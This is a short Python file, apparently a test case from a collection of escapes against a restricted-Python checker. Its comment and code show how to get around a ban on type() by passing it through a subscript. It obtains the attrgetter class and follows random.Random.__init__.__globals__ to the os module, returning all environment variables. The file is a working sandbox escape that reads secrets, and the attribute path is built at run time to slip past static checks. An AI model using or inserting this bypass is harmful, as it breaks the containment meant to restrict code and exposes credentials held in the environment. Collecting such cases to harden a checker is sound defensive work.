# family: computed
# Escape: type(x) may not be used as a value, but a subscript index is an "operand" where type(...) is allowed.
# The tool's __getitem__ simply returns its key, so Index()[type(operator.attrgetter("real"))] is the attrgetter
# class itself, which takes any run-time attribute path: "__init__.__globals__" of random.Random -> os.environ.
import operator
import random


class Index:
    def __getitem__(self, key):
        return key


def tool(word: str = "globals") -> str:
    getter = Index()[type(operator.attrgetter("real"))]
    scope = getter("__init__.__" + word + "__")(random.Random())
    return str(scope["_os"].environ)
